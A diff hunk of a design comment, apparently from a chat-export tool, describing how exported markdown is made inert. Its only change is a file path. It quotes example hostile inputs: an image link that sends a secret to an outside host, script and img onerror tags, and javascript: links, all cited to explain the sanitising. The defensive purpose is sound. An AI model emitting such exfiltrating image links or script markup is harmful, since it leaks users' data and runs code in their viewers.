@@ -4,7 +4,7 @@ An exported chat holds what was asked and what the model wrote, and either can c
 Markdown that acts when it is rendered: an image the previewer fetches at once
 (``![x](http://elsewhere/leak.png?q=<secret>)``), raw HTML (``<img onerror=…>``,
 ``<script>``, ``<iframe>``), a ``javascript:`` link. The window never renders those
-(ui/markdown.py); a previewer would. So the file is written inert: an image becomes
+(ui/answer/markdown.py); a previewer would. So the file is written inert: an image becomes
 ``image: alt (`url`)``, its address in a code span that nothing fetches or links; raw HTML
 is escaped, so ``<script>`` shows as text; a link to a ``javascript:``, ``vbscript:``,
 ``data:`` or ``file:`` address becomes its text. Everything else stays as written.
